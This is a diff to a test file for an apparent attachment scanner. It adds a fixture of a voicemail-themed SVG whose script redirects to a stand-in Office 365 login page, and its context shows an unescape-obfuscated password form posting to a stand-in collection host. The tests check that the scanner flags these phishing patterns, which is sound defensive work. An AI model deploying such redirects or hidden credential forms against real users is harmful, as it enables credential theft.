@@ -137,6 +137,16 @@ describe('HTML', () => {
     assert.equal(file?.findings.find((f) => f.id === 'html-credential-form')?.severity, 'high');
   });
 
+  it('reads script in an SVG picture', async () => {
+    const svg = Buffer.from(
+      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>' +
+        'window.location.href = "https://login.example.net/o365";</script></svg>',
+    );
+    const file = await analyze(svg, 'voicemail.svg');
+    assert.equal(file?.detectedType, 'svg');
+    assert.ok(ids(file).includes('html-redirect'));
+  });
+
   it('reads a page hidden behind unescape', async () => {
     const inner = '<form action="https://collect.example.net/p"><input type="password"></form>';
     const page = Buffer.from(`<script>document.write(unescape('${escape(inner)}'))</script>`);
